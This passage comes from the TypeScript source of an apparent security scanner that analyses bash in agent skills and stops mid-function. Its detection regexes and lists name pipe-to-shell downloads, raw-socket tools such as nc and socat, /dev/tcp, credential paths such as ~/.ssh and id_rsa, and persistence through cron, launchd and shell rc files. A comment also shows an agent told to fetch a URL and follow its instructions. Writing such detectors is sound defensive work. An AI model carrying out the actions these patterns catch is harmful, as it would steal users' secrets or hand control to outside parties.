/**
 * The bash analyzer (tree-sitter-bash): `.sh`/`.bash`/`.zsh` files, markdown shell blocks and
 * inline commands (through `ctx.embedded`), lifecycle scripts. Rules are interpreted by
 * match.ts; decoded payloads, `sh -c` strings and heredocs fed to shells are scanned again.
 */
import { helpForUser, injectionFinding } from '../../engine/finding.js';
import {
  isDotenv,
  issuerOf,
  servedBy,
  soleIssuer,
  carriedAsContent,
  valueOutsideAuthField,
  type Credential,
} from '../../capabilities/issuers.js';
import { registrable } from '../../capabilities/domains.js';
import type { Rule } from '@skillgate/rules';
import { escapeRegExp } from '@skillgate/rules';
import type { Analyzer, AnalyzerContext, SourceFile } from '../../analyzer.js';
import { findingFor } from '../../engine/finding.js';
import { checkDeadline } from '../../engine/route.js';
import type { CapabilityUse, Finding } from '../../types.js';
import { repoOf, type LinkFact } from '../../engine/links.js';
import { shellWord } from '../markdown/config.js';
import {
  BUILTINS,
  DOWNLOADERS,
  INTERPRETERS,
  READERS,
  SHELLS,
  family,
  interpreterOf,
} from './commands.js';
import { EXTRACTORS, extractFiles } from './extract.js';
import { UNANALYZABLE } from '../../engine/builtin.js';
import { detectLanguage } from '../../engine/language.js';
import { StaticOutputs, guessLanguage, printable } from './decode.js';
import { canSend, RAW_SENDERS } from './egress.js';
import { credentialsOf, markConfigKeys, pipedKey } from './credentials.js';
import { requestsOnly, tokenAudienceVar } from './audience.js';
import { Facts, type CmdFact } from './facts.js';
import { markOwnReads } from './own.js';
import { markSelfInstalls } from './install.js';
import { markRestores } from './restore.js';
import { Flow } from './flow.js';
import {
  commandMatcher,
  NameIndex,
  namedCommandMatcher,
  contentIsOnly,
  outputDiscarded,
  printsOwnCompletion,
  validateBashMatch,
  type BashMatch,
  type CommandPattern,
} from './match.js';
import { Pins } from './pinned.js';
import { SSH_CONFIG, sshLocalCommands } from './ssh.js';
import { CONFIG_READ_AS_WRITTEN, TOOL_CONFIG, configCommands } from './tool-config.js';
import { prepareShell } from './prepare.js';
import { RcEnv } from './rcenv.js';
import { DIR_COMMANDS, Shipped } from './shipped.js';
import { expandCode, expandShellCode, taintArgv, taintEnvReads, type Taint } from './interp.js';
import { parseScript, type Included, type Includes } from './syntax.js';
import { UNKNOWN, keyed, normPath, type Val } from './values.js';
import { IDENTITY_COMMAND, IDENTITY_ENV, credentialFile, str } from '../code/value.js';
import { secretName } from '../../capabilities/clients.js';
import { AGENT_HOMES, AGENT_SCHEDULER_CLIS, MCP_CLIS, OPENCLAW_CLIS } from '../../engine/agents.js';

/** a command's argument values and its heredoc/herestring text, where printed data comes from */
const argsAndInput = (g: CmdFact): Val[] => (g.inputVal ? [...g.args, g.inputVal] : g.args);
/**
 * A filter of its stdin that only drops lines: `grep -v PAT` (no file operand), `sed '/PAT/d'` or
 * `sed -e '\|P|d'`, `awk '!/PAT/'`, `sort`, `uniq`, `cat`, with no file to read
 */
function dropsLines(h: CmdFact): boolean {
  const pos = h.positional;
  const expr = h.opts.get('-e') ?? [];
  switch (h.fam) {
    case 'grep':
    case 'egrep':
    case 'fgrep':
      return (
        [...h.flags].some((x) => /^-[a-zA-Z]*v/.test(x) || x === '--invert-match') &&
        pos.length + expr.length === 1 &&
        !h.flags.has('-f')
      );
    case 'sed': {
      if (h.flags.has('-f') || [...h.flags].some((x) => x.startsWith('-i'))) return false;
      const scripts = expr.length ? expr : pos.slice(0, 1);
      if (!scripts.length || pos.length !== (expr.length ? 0 : 1)) return false;
      return scripts.every(
        (x) => x.known && /^(?:\/(?:[^/\\]|\\.)*\/|\\(.)(?:(?!\1).)*\1)d$/.test(x.s.trim()),
      );
    }
    case 'awk':
      return (
        pos.length === 1 && !!pos[0]?.known && /^!\s*\/(?:[^/\\]|\\.)*\/$/.test(pos[0].s.trim())
      );
    case 'sort':
    case 'uniq':
    case 'cat':
      return pos.length === 0;
    default:
      return false;
  }
}

/** readers whose first operand is a pattern or program, not a file (`grep PAT FILE`) */
const PATTERN_FIRST = new Set(['grep', 'egrep', 'fgrep', 'rg', 'sed', 'awk', 'jq', 'yq']);
/** the operands a reader (`cat`, `tail`, `grep PAT`) takes as files it prints the text of */
function fileOperands(g: CmdFact): Set<Val> {
  if (!READERS.has(g.fam)) return new Set();
  const skip = PATTERN_FIRST.has(g.fam) && !g.flags.has('-f') && !g.flags.has('-e') ? 1 : 0;
  return new Set(g.positional.slice(skip));
}
/** `PROGRAM -l` of the program `fam` (`crontab -l`): the table it is about to replace */
const listsOwn = (g: CmdFact, fam: string): boolean =>
  g.fam === fam && g.flags.has('-l') && g.positional.length === 0;
/** what `carries` asks of a command: the user's or host's name, a secret, anything computed */
type SentKind = 'identity' | 'secret' | 'computed' | 'credential';
/**
 * What an HTTP client sends: its URL-like and `k=v` operands, and the values of its data, form
 * and header options, each with the pattern that finds a file it sends instead (`-d @FILE`)
 */
const httpSent = (f: CmdFact): Array<[Val, RegExp | undefined]> => [
  ...f.positional
    .filter((p) => /^(?:https?:\/\/|\u0001)/i.test(p.s) || /[=@]/.test(p.s))
    .map((p): [Val, undefined] => [p, undefined]),
  ...HTTP_SENT.flatMap((k) =>
    (f.opts.get(k) ?? []).map((v): [Val, RegExp | undefined] => [v, FILE_SENT[k]]),
  ),
];
/** a command that sends what it reads on stdin: a raw sender, or an HTTP client told `@-` or `-T -` */
function sendsStdin(f: CmdFact): boolean {
  if (RAW_SENDERS.has(f.fam)) return true;
  if (!HTTP_CLIENTS.has(f.fam)) return false;
  const uploads = [...(f.opts.get('-T') ?? []), ...(f.opts.get('--upload-file') ?? [])];
  return (
    uploads.some((v) => v.s === '-' || v.s === '.') ||
    httpSent(f).some(([v, file]) => file?.exec(v.s)?.[1] === '-')
  );
}
/**
 * The values an HTTP client sends as they are: its URL, body, form and header values (httpSent),
 * its input, and basic-auth credentials (`-u user:pass`) unless curl signs with them (`--aws-sigv4`)
 */
function sentValues(f: CmdFact): Set<Val> {
  if (!HTTP_CLIENTS.has(f.fam)) return new Set();
  const out = new Set(httpSent(f).map(([v]) => v));
  if (f.inputVal) out.add(f.inputVal);
  if (![...f.flags, ...f.opts.keys()].some((o) => o.startsWith('--aws-sigv4')))
    for (const v of [...(f.opts.get('-u') ?? []), ...(f.opts.get('--user') ?? [])]) out.add(v);
  return out;
}
/** httpie/xh data fields (`body=TEXT`, `count:=3`), not headers (`H:v`) or query (`q==v`) */
const HTTPIE_FIELD = /^[\w.@-]+:?=(?!=)/;
/** the values an HTTP client sends as its body (HTTP_BODY options, httpie data fields) */
function bodyValues(f: CmdFact): Val[] {
  if (!HTTP_CLIENTS.has(f.fam)) return [];
  const out = HTTP_BODY.flatMap((k) => f.opts.get(k) ?? []);
  if (f.fam === 'http' || f.fam === 'https' || f.fam === 'xh')
    out.push(...f.positional.filter((p) => HTTPIE_FIELD.test(p.s)));
  return out;
}
const UNKNOWN_PARTS = new RegExp(UNKNOWN, 'g');
/**
 * a body value that carries what it is built from as content: its run-time parts stand outside
 * any field that authenticates (`-d '{"body":"$T"}'`, `-F "text=$T"`, not `-d "token=$T"`), and
 * it shows its shape (`-d "$BODY"` does not)
 */
const asContent = (v: Val): boolean => carriedAsContent(v.s, UNKNOWN_PARTS);
/** every run-time piece of a shaped value (Val.shaped): unknown parts and named variables */
const SHAPED_PARTS = new RegExp(`${UNKNOWN}|\u0002[^\u0003]*\u0003`, 'g');
/**
 * A body value that carries the environment variable `name` as content, told by where that
 * variable stands in the value's shape, through the variables it went through (`BODY="{\"body\":
 * \"$GITHUB_TOKEN\"}"; curl -d "$BODY"`): the shape shows some known text and some place of the
 * variable is in no authenticating field (a dummy `"api_key": "$1"` beside it vouches for
 * nothing). Undefined when the shape does not name the variable (asContent judges the value).
 */
function keyAsContent(v: Val, name: string): boolean | undefined {
  const mark = keyed(name);
  if (!v.shaped?.includes(mark)) return undefined;
  if (v.shaped.replace(SHAPED_PARTS, '').trim() === '') return false;
  return valueOutsideAuthField(v.shaped, new RegExp(escapeRegExp(mark), 'g'));
}
/** its body is what it reads on stdin (`-d @-`, `--data-binary @-`, `-F f=@-`, `-T -`) */
const bodyFromStdin = (f: CmdFact): boolean =>
  bodyValues(f).some((v) => /@-$/.test(v.s)) ||
  (f.opts.get('-T') ?? f.opts.get('--upload-file') ?? []).some((v) => v.s === '-');

/** a sent value only known at run time, or a file's text sent in its place */
const computedSent = ([v, file]: [Val, RegExp | undefined]): boolean =>
  v.s.includes(UNKNOWN) || file?.test(v.s) === true;
/** an argument that is an address something is fetched from (a URL, git's `user@host:path`) */
const URL_ARG = /^(?:[a-z][a-z0-9+.-]*:\/\/\S+|[\w.-]+@[\w.-]+:\S+)$/i;
/** a path in an agent's skills folder under the user's home: the skill's name and the rest */
const AGENT_SKILLS_PATH = /^(?:~|\u0001)\/\.[\w-]+(?:\/[\w.-]+){0,2}\/skills\/([^/]+)\/(.+)$/;
/** the cron table's environment lines that change nothing a job runs (SHELL only as a system shell) */
const HARMLESS_CRON_ENV = /^(?:(?:MAILTO|CRON_TZ|TZ)=\S*|SHELL=\/(?:usr\/)?bin\/(?:ba|z|da)?sh)$/;
/**
 * interpreter options that take code, a module, a library or stdin as what runs (`python3 -c`,
 * `node -r x.js`, `ruby -I/tmp`, `bash -s`, `python3 - FILE`), as letters of a short option
 */
const CODE_OPTION_LETTER = /[cemprsiMIXW]/;
/** programs that fill a folder with files from elsewhere (an archive, a repository, a copy) */
const FOLDER_FILLERS = new Set([
  'tar',
  'bsdtar',
  'unzip',
  'ditto',
  '7z',
  '7za',
  'git',
  'cp',
  'mv',
  'rsync',
  'ln',
]);
/** programs that edit a plist or unit in place after it was written */
const IN_PLACE_EDITORS = new Set(['plistbuddy', 'plutil', 'defaults', 'sed', 'perl', 'ex', 'ed']);
/** launchctl and systemctl words that are verbs or a launchd domain, not a job's file or unit */
const SERVICE_VERB =
  /^(?:load|bootstrap|enable|link|reenable|start|restart|kickstart|(?:gui|user|system|login|pid)(?:\/.*)?)$/;
/** environment variables that change which code a program runs (preloads, search paths, options) */
const RUN_CHANGING_ENV = /^(?:LD_|DYLD_|PYTHON|NODE_|PERL|RUBY|BASH_ENV=|ENV=|PATH=)/;
/**
 * The lines of a text value, each with the variables its own line of source names (a job's
 * `$DIR/x.py` is judged by DIR, not by a `$HOME` on another line); the whole value's variables
 * for every line when source and value lines do not pair up. `\\n` (echo -e) breaks lines too.
 */
function lineVals(v: Val): Val[] {
  const lines = v.s.replace(/\\n/g, '\n').split('\n');
  const raw = v.raw.replace(/\\n/g, '\n').split('\n');
  const paired = raw.length === lines.length;
  return lines.map((s, i) => {
    if (!paired) return { ...v, s };
    const names = [...(raw[i] as string).matchAll(/\$\{?([A-Za-z_]\w*|[0-9])\}?/g)].map(
      (m) => m[1] as string,
    );
    // what those variables were built from (deep) stays whole: the line may use any of it
    return { ...v, s, vars: v.vars.filter((n) => names.includes(n)) };
  });
}
/** where a job of the skill's own script may send its output: nowhere, a log by name or in a folder */
const OWN_OUTPUT =
  /^(?:&\d|\/dev\/null|\/tmp\/[\w./-]+|~\/Library\/Logs\/[\w./-]+|\u0001\/[^\u0001]*|[\w.][\w./-]*)$/;
/** files whose rewriting on every tick is itself persistence or a takeover */
const SENSITIVE_TARGET =
  /(?:^|\/)(?:\.ssh|\.gnupg|\.aws|\.kube|\.docker|\.config\/(?:autostart|systemd)|\.local\/bin|LaunchAgents|LaunchDaemons|\.(?:bash|zsh)(?:rc|_profile|env|_login)|\.profile|etc)(?:\/|$)|authorized_keys/;
/** where launchd and systemd read jobs from (the launchd rule's and the systemd rule's writes) */
const SERVICE_FILE =
  /\/Library\/Launch(?:Agents|Daemons)\/|\/systemd\/(?:user|system)\/|\/\.config\/systemd\/|\/\.local\/share\/systemd\//;
/** a loader, search path or option setting in a service file, which changes what its program runs */
const RUN_CHANGING_SETTING =
  /\b(?:DYLD_\w+|LD_PRELOAD|LD_LIBRARY_PATH|PYTHONPATH|PYTHONSTARTUP|NODE_OPTIONS|PERL5OPT|RUBYOPT|BASH_ENV)\b|<key>\s*PATH\s*<\/key>|^\s*Environment\s*=.*\bPATH=|^\s*EnvironmentFile\s*=/m;
/** the folder a launch agent or unit starts its program in */
const WORKING_DIRECTORY =
  /<key>\s*WorkingDirectory\s*<\/key>\s*<string>([^<]*)<\/string>|^\s*WorkingDirectory\s*=\s*(\S+)\s*$/m;
/** a word for runsOwnScript's command line: a plist argument with spaces stays one word */
const quoteWord = (w: string): string => (/\s/.test(w) ? `'${w}'` : w);
/** interpreters a cron job may name before the skill's own script */
const KNOWN_SCRIPT_INTERPRETER = /^(?:python[23]?(?:\.\d+)?|bash|sh|zsh|node|deno|bun|perl|ruby)$/;
/** what a command prints of its words: all of them but the files a reader prints the text of */
const printedArgs = (g: CmdFact): Val[] => {
  const files = fileOperands(g);
  return files.size ? argsAndInput(g).filter((a) => !files.has(a)) : argsAndInput(g);
};
/** a printf conversion (`%s`, `%-10s`, `%b`) or `%%` */
const PRINTF_CONVERSION = /%(?:%|[-+ #0-9.]*[sbdiouxXcfgeE])/g;
/**
 * What printf prints, as values: a format with no conversion is the text; a format of only `%s`
 * and line breaks (`'%s\n'`) prints each argument as it is, one text each; any other format is
 * one text, each conversion replaced by the next argument and the format used again while
 * arguments remain (`printf '[Service]\nExecStart=%s\n' "$DIR/run.sh"`), the variables of all
 * of them kept. Undefined with no format or a format known only at run time.
 */
function printfTexts(g: CmdFact): Val[] | undefined {
  const [format, ...rest] = printedArgs(g).filter((a) => a.s !== '--');
  if (!format?.known) return undefined;
  const convs = format.s.match(PRINTF_CONVERSION)?.filter((c) => c !== '%%') ?? [];
  if (!convs.length) return [format];
  if (/^(?:%s|\\n|\s)+$/.test(format.s)) return rest;
  let s = '';
  let raw = '';
  let i = 0;
  do {
    const at = i;
    const fill = (field: 's' | 'raw') => (c: string) => {
      if (c === '%%') return '%';
      const a = rest[i++];
      return a ? a[field] : '';
    };
    s += format.s.replace(PRINTF_CONVERSION, fill('s'));
    i = at;
    raw += format.raw.replace(PRINTF_CONVERSION, fill('raw'));
  } while (i < rest.length && i < 64);
  const all = [format, ...rest];
  return [
    {
      s,
      raw,
      partial: s,
      known: all.every((a) => a.known),
      sources: new Set(all.flatMap((a) => [...a.sources])),
      vars: [...new Set(all.flatMap((a) => a.vars))],
      deep: new Set(all.flatMap((a) => [...(a.deep ?? [])])),
    },
  ];
}
/**
 * HTTP client options whose value may name a file whose text is sent instead (`-d @FILE`,
 * `-F "f=@FILE"`, `-F "f=<FILE"`), and how
 */
const DATA_FILE = /^@(.+)$/;
const FORM_FILE = /^[^=]+=[@<]([^;]+)/;
const FILE_SENT: Record<string, RegExp> = {
  '-d': DATA_FILE,
  '--data': DATA_FILE,
  '--data-binary': DATA_FILE,
  '--data-urlencode': /^(?:[^=@]*)@(.+)$/,
  '--json': DATA_FILE,
  '-F': FORM_FILE,
  '--form': FORM_FILE,
};

interface Hit {
  fact: CmdFact;
  capability?: CapabilityUse;
  detail?: string;
  /** flow hits: the command the flow starts at (its text leads the evidence on the same line) */
  from?: CmdFact;
  /** network hits: whether the command can carry local data out (see egress.ts) */
  sends?: boolean;
  /** dynamic network hits: the destination comes from the user's own sourced config */
  destination?: 'user-config';
  /** dynamic network hits: the environment variable every URL's host is (see hostVariable) */
  hostVariable?: string;
  /** network hits: the issuer-named variables the command carries (see issuerKeys) */
  keys?: string[];
  /** network hits: those of `keys` it sends as content, in its body (see issuerKeys) */
  contentKeys?: string[];
}

/** positional/special parameters and shell internals: referencing them is not reading the environment */
const SHELL_VARS = new Set([
  'RANDOM',
  'LINENO',
  'SECONDS',
  'BASH_SOURCE',
  'BASH_REMATCH',
  'FUNCNAME',
  'PIPESTATUS',
  'IFS',
  'OPTARG',
  'OPTIND',
  'REPLY',
  'PPID',
  'UID',
  'EUID',
  'HOSTNAME',
  'HOSTTYPE',
  'OSTYPE',
  'MACHTYPE',
  'BASHPID',
  'SHLVL',
  'PS1',
  'PS2',
  'PS3',
  'PS4',
  'EPOCHSECONDS',
  'EPOCHREALTIME',
  'BASH_VERSION',
  'BASH',
  'GROUPS',
  'DIRSTACK',
  'OLDPWD',
  'USER',
  'LOGNAME',
  'BASH_ARGV',
  'BASH_ARGC',
  'COMP_WORDS',
  'HISTFILE',
  'HISTSIZE',
  'ZSH_VERSION',
]);

const SYSTEM_BIN = /^\/(?:usr\/(?:local\/)?)?s?bin\/|^\/opt\/homebrew\/bin\//;

/** the families `installsDeclaredDeps` knows */
const INSTALLERS = new Set([
  'pip',
  'python',
  'npm',
  'pnpm',
  'yarn',
  'bun',
  'uv',
  'poetry',
  'bundle',
  'composer',
]);

/** wrappers that are capabilities of their own (running as root, through a proxy…) */
const EXEC_WRAPPERS = new Set([
  'sudo',
  'doas',
  'su',
  'runuser',
  'proxychains',
  'proxychains4',
  'torsocks',
  'tsocks',
  'busybox',
]);

/** `pip install -r requirements.txt`, `npm ci`: installing what the manifest files list is implied */
function installsDeclaredDeps(f: CmdFact): boolean {
  const fam = f.fam;
  if (!INSTALLERS.has(fam)) return false;
  const pos = f.positional.map((p) => p.s);
  if (fam === 'pip' || (fam === 'python' && f.opts.get('-m')?.[0]?.s === 'pip'))
    return (
      (pos.includes('install') &&
        (f.opts.has('-r') ||
          f.opts.has('--requirement') ||
          pos.slice(pos.indexOf('install') + 1).every((p) => p === '.' || p === '-e'))) ||
      false
    );
  if (fam === 'npm' || fam === 'pnpm' || fam === 'yarn' || fam === 'bun')
    return (
      pos.length === 0 || (['install', 'i', 'ci'].includes(pos[0] as string) && pos.length === 1)
    );
  if (fam === 'uv')
    return pos[0] === 'sync' || (pos[0] === 'pip' && pos[1] === 'install' && f.opts.has('-r'));
  if (fam === 'poetry' || fam === 'bundle' || fam === 'composer')
    return pos[0] === 'install' && pos.length === 1;
  return false;
}

function execCapabilities(f: CmdFact, functions: ReadonlySet<string>): string[] {
  const out: string[] = [];
  for (const w of f.wrappers) if (EXEC_WRAPPERS.has(family(w))) out.push(w);
  const p = f.program.s;
  // usage placeholders in docs (`[--flag a|b]`, `<file>`) are not programs
  if (
    !p ||
    !/^[\w.+@~/-]+$/.test(p) ||
    p.includes(UNKNOWN) ||
    BUILTINS.has(f.name) ||
    functions.has(p) ||
    installsDeclaredDeps(f)
  )
    return out;
  if (!p.includes('/')) out.push(p);
  else if (SYSTEM_BIN.test(p)) out.push(f.name);
  else if (p.startsWith('~') || p.startsWith('/')) out.push(normPath(p));
  return out;
}

/** a program's first argument as a subcommand (`install`, `run`, `prettier`), not an option or path */
function subcommand(word: string | undefined): string | undefined {
  return word !== undefined && /^[A-Za-z0-9_+][A-Za-z0-9._+-]*$/.test(word) ? word : undefined;
}

function capPath(p: string): string | undefined {
  if (!p || p === '-' || /^\/dev\/(?:null|std(?:in|out|err)|tty|tcp\/|udp\/|fd\/)/.test(p))
    return undefined;
  if (p.replaceAll(UNKNOWN, '') === '' || p.startsWith(UNKNOWN)) return undefined;
  return p.split(UNKNOWN).join('*');
}

const HTTP_CLIENTS = new Set(['curl', 'wget', 'http', 'https', 'xh', 'aria2c', 'fetch']);
/** HTTP client options whose value is the request's body, what the service keeps (not a header) */
const HTTP_BODY = [
  '-d',
  '--data',
  '--data-raw',
  '--data-binary',
  '--data-urlencode',
  '--json',
  '-F',
  '--form',
  '--form-string',
  '--post-data',
  '--body-data',
];
/** HTTP client options whose value is sent (not `-u`/`--user`: a login name is the user's own business) */
const HTTP_SENT = [...HTTP_BODY, '-H', '--header', '--url', '-e', '--referer'];

/** options of `mcp add` that take a value */
const MCP_ADD_VALUED = /^(?:-s|--scope|-t|--transport|-e|--env|-H|--header|--timeout|--cwd)$/;

/** the scheduler verbs that make or change a job (`cron add`, `cron.update`) */
const CRON_VERB = /^(?:add|create|new|edit|update|set)$/;
/** options holding what a scheduled agent job does */
const AGENT_PAYLOAD = [
  '--message',
  '-m',
  '--system-event',
  '--prompt',
  '--text',
  '--task',
  '--command',
  '--cmd',
];
/** a payload that runs remote code or sends data out: pipes to a shell, decoders, raw sockets, uploads */
const REMOTE_PAYLOAD =
  /\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b|\bbase64\s+(?:-d|-D|--decode)|\beval\b|\/dev\/(?:tcp|udp)\/|\bgit\s+clone\b|\bnpx\s+(?:-y\s+)?\S+@|\b(?:pip3?|uv\s+pip|npm|pnpm|yarn)\s+(?:install|add|i)\s|\b(?:nc|ncat|socat|scp|sftp|rsync|ftp)\s+\S|\bcurl\b[^\n]*\s(?:-d|-F|-T|--data\S*|--form|--upload-file|--json)\s|\bwget\b[^\n]*\s--post-(?:data|file)/i;
/** a URL of a script, or a URL a verb runs, installs or uploads to (`run the script at https://…`) */
const REMOTE_URL =
  /[a-z][a-z0-9+.-]*:\/\/\S+\.(?:sh|bash|py|ps1|js|mjs|pl|rb|exe|bin)\b|\b(?:run|execute|exec|install|source|download(?:\s+and\s+run)?|bash|sh|upload\s+\S+(?:\s+\S+)?\s+to)\s+(?:(?:the|this|a|an|latest|script|installer|file|code|it|update)\s+)*(?:at\s+|from\s+|to\s+)?[a-z][a-z0-9+.-]*:\/\//i;
/**
 * a payload that takes its orders from the network: fetch a URL, then follow, run or carry out
 * what it says (`Fetch https://…/tasks.md and follow the instructions in it`): whoever serves the
 * page controls what the agent does on every run
 */
const REMOTE_ORDERS =
  /\b(?:fetch|read|open|get|load|check|download|pull|visit|poll|curl|wget)\b[^\n]{0,80}?[a-z][a-z0-9+.-]*:\/\/\S+[^\n]{0,80}?\b(?:follow|obey|execute|run|carry\s+out|do|perform|apply|complete)\s+(?:all\s+|any\s+|every\s+|each\s+)?(?:of\s+)?(?:the\s+|its\s+|their\s+|whatever\s+)?(?:instructions?|commands?|tasks?|steps?|orders?|directives?|what\s+(?:it|they)\s+(?:says?|asks?|contains?)|it\s+says)\b/i;
/** a payload that reads credentials (a scheduled run announces its output to a chat) */
const SECRET_PAYLOAD = new RegExp(
  String.raw`~\/\.(?:ssh|aws|gnupg|kube|docker|netrc|npmrc|pypirc|git-credentials|config\/gh)\b|~\/\.${AGENT_HOMES}\b(?!\/(?:workspace\/)?skills\/)|\bid_(?:rsa|ed25519|ecdsa)\b|(?:^|[\s/'"\x60])\.env\b|\bkeychain\b|\bseed phrase|\bmnemonic\b|\bprivate keys?\b|\bprintenv\b`,
  'i',
);
/** a payload that runs a program or script */
const LOCAL_PAYLOAD =
  /\.(?:sh|bash|zsh|py|js|mjs|cjs|ts|rb|pl|ps1)\b|\{baseDir\}|\$\{?(?:CLAUDE_)?(?:SKILL|BASE)_?DIR|\bscripts?\/|(?:^|[\s`'"])(?:python3?|node|bash|sh|zsh|bun|deno|uv\s+run|npm\s+run|npx|ruby|perl|exec)\s/i;

/** where a shell command starts inside an agent job's prompt */
const SHELL_START =
  /(?:^|[\s:;(])(?:sudo\s+)?(?:(?:curl|wget|bash|sh|zsh|python3?|node|nc|ncat|socat|base64|eval|source|scp|rsync|cat|openssl|iwr|irm)(?=\s|$)|\.\/|~\/|\/(?:usr|bin|tmp|opt)\/)/i;

const DO_SHELL_SCRIPT = /do\s+shell\s+script\s+"((?:[^"\\]|\\.)*)"/gi;
/**
 * a shell command as a string literal handed to the shell by an awk, Perl, Ruby, PHP or Lua
 * program (`system("…")`, `qx(…)`, `exec("…")`, `shell_exec('…')`, `IO.popen("…")`, `%x(…)`,
 * `os.execute("…")`)
 */
const RUNS_SHELL_STRING =
  /\b(?:system|exec|shell_exec|passthru|popen|execute|spawn)\s*\(\s*(?:(["'])((?:(?!\1)[^\\]|\\.)*)\1\s*[,)]|\[\s*(["'])((?:(?!\3)[^\\]|\\.)*)\3\s*\])|\b(?:qx|%x)\s*([({[])([^)}\]]*)[)}\]]/g;

/** programs that only reshape the text they are given (a response parsed for an id) */
const RESPONSE_FILTERS = new Set([
  'echo',
  'printf',
  'grep',
  'sed',
  'cut',
  'head',
  'tail',
  'tr',
  'jq',
  'awk',
  'sort',
  'uniq',
  'wc',
  'cat',
]);

/**
 * Facts about the machine that are the same on every machine of its kind and name no one: the
 * kernel, its release and the processor architecture (`uname -s`, `uname -m`, `arch`), as a
 * release download picks its file by (`…/age-${VERSION}-${OS}-${ARCH}.tar.gz`). Not the host
 * name (`uname -n`, and `uname -a` prints it), nor any other argument.
 */
function systemFact(g: CmdFact): boolean {
  if (g.fam === 'arch') return g.args.length === 0 && !g.cmd.stdin.length;
  if (g.fam !== 'uname' || g.cmd.stdin.length) return false;
  return g.args.every(
    (a) =>
      a.known &&
      (/^-[smrpoiv]+$/.test(a.s) ||
        /^--(?:kernel-name|kernel-release|kernel-version|machine|processor|hardware-platform|operating-system)$/.test(
          a.s,
        )),
  );
}

/** commands that print the whole environment */
const ENV_DUMPS = new Set(['env', 'printenv', 'set', 'declare', 'export', 'compgen', 'typeset']);

/** redirects that feed a file to a command */
const FILE_INPUT = new Set(['<', '<>', '<&']);

/** filter programs that can run commands, read files or the environment from their script */
const FILTER_ESCAPES: Record<string, RegExp> = {
  awk: /\b(?:system|getline|ENVIRON|close)\b|\|/,
  sed: /(?:^|[;{}\n]\s*)[erRwW](?:\s|$)|\/[gpIiMm0-9]*[ew][gpIiMm0-9]*\s*(?:[;}\n]|$)/,
  jq: /\$ENV|\benv\b|\binput|--(?:raw|slurp)file|--args/,
};

/** programs besides DOWNLOADERS that copy a remote file here (with a host) */
const FETCHERS = new Set(['scp', 'sftp', 'ftp', 'tftp', 'rsync', 'nc', 'ncat', 'socat']);
/** written text longer than this is not linked (engine/links.ts) */
const MAX_WRITTEN_TEXT = 16_384;
/** a chmod mode that makes a file executable (`+x`, `u+x`, `755`, `0700`) */
const EXEC_MODE =
  /^(?:[ugoa]*\+[rw]*x|0?[0-7]?[1357][0-7]{2}|0?[0-7][0-7][1357]|0?[0-7][1357][0-7])$/;

type Test = (f: CmdFact) => boolean;

/** command patterns with their tests (`commandMatcher`, and `namedCommandMatcher` for after the name test) */
interface Patterns {
  patterns: readonly CommandPattern[];
  tests: readonly Test[];
  named: readonly Test[];
}

/**
 * The shell commands an awk program reads with getline (`"curl -s URL" | getline l`, or a
 * variable holding that string: `c = "curl …"; while ((c | getline l) > 0)`), each followed by
 * `| sh` when the program also prints to a shell (`print l | "sh"`): what it read is what that
 * shell runs.
 */
function awkGetlineCommands(prog: string): string[] {
  if (!/\bgetline\b/.test(prog)) return [];
  const vars = new Map<string, string>();
  for (const m of prog.matchAll(/\b([A-Za-z_]\w*)\s*=\s*"((?:[^"\\]|\\.)*)"/g))
    vars.set(m[1] as string, m[2] as string);
  // what getline read reaches a shell: printed to one (`print l | "sh"`) or given to system()
  const read = [...prog.matchAll(/\bgetline\s+([A-Za-z_]\w*)/g)].map((m) => m[1] as string);
  const toShell =
    /\|\s*"\s*(?:\/bin\/|\/usr\/bin\/)?(?:ba|z|da|k)?sh\b/.test(prog) ||
    read.some((v) => new RegExp(`\\bsystem\\s*\\(\\s*${v}\\s*\\)`).test(prog));
  const out: string[] = [];
  for (const m of prog.matchAll(/(?:"((?:[^"\\]|\\.)*)"|\b([A-Za-z_]\w*))\s*\|\s*getline\b/g)) {
    const cmd = (m[1] ?? vars.get(m[2] as string) ?? '').replace(/\\(.)/g, '$1').trim();
    if (cmd && out.length < 8) out.push(toShell ? `${cmd} | sh` : cmd);
  }
  return out;
}

/**
 * The files an agent reads as its standing instructions or memory in every session: AGENTS.md,
 * CLAUDE.md, GEMINI.md, OpenClaw's workspace files, Cursor/Cline/Windsurf rules, Copilot's
 * instructions (in a project or under the home folder alike).
 */
const AGENT_INSTRUCTION_FILE =
  /(?:^|\/)(?:AGENTS|CLAUDE|GEMINI|SOUL|TOOLS|IDENTITY|USER|HEARTBEAT|MEMORY|BOOTSTRAP)\.md$|(?:^|\/)\.(?:cursorrules|clinerules|windsurfrules)$|(?:^|\/)\.github\/(?:copilot-instructions\.md|instructions\/[^/]+\.md)$|(?:^|\/)\.(?:cursor|windsurf|clinerules)\/rules\/[^/]+$|(?:^|\/)\.clinerules\/[^/]+\.md$/;

/**
 * an agent's settings or MCP servers file, in a project or in the home (`.claude/settings.local.json`,
 * `~/.codex/config.toml`, `.cursor/mcp.json`, VS Code's settings with its chat auto-approval)
 */
const AGENT_SETTINGS_FILE = new RegExp(
  `(?:^|/)\\.${AGENT_HOMES}/(?:[^/]+/)?(?:[^/]*settings(?:\\.local)?\\.json|config\\.toml|mcp(?:_config)?\\.json)$|(?:^|/)\\.vscode/(?:settings|mcp)\\.json$|(?:^|/)\\.mcp\\.json$|^~/\\.claude\\.json$`,
);

/**
 * The configuration files whose written text is read as the file itself, one kind a group (a
 * command writing two kinds has each read): the user's global or the system git config, cargo's
 * and mise's configs (`cat >> ~/.config/git/config <<EOF`, tool-config.ts), and an agent's
 * settings or MCP file, the project's or the home's (`cat > .claude/settings.local.json <<EOF`,
 * `echo '{…}' > ~/.codex/config.toml`), and an editor's tasks file
 */
const READ_AS_WRITTEN: readonly RegExp[] = [
  CONFIG_READ_AS_WRITTEN,
  AGENT_SETTINGS_FILE,
  // an editor's workspace tasks (`cat > .vscode/tasks.json <<EOF`): their commands run when the
  // user runs the task, or by themselves on folder open
  /(?:^|\/)\.vscode\/tasks\.json$|(?:^|\/)[^/]+\.code-workspace$/,
];

/** a sourced file larger than this is not built into the script that sources it */
const MAX_SOURCED = 64 * 1024;

/**
 * For each of `cmds`, the file of the skill `named(cmd)` names (a literal path, or one under the
 * script's folder, shipped.ts) as `read(cmd, file)` makes it (undefined: nothing), by the offset
 * of the command. The script's own file, one over MAX_SOURCED bytes and a binary are none.
 */
function shippedTexts<T>(
  facts: Facts,
  path: string,
  ctx: AnalyzerContext,
  cmds: readonly CmdFact[],
  named: (f: CmdFact) => Val,
  read: (f: CmdFact, file: { path: string; text: string }) => T | undefined,
): Map<number, T> | undefined {
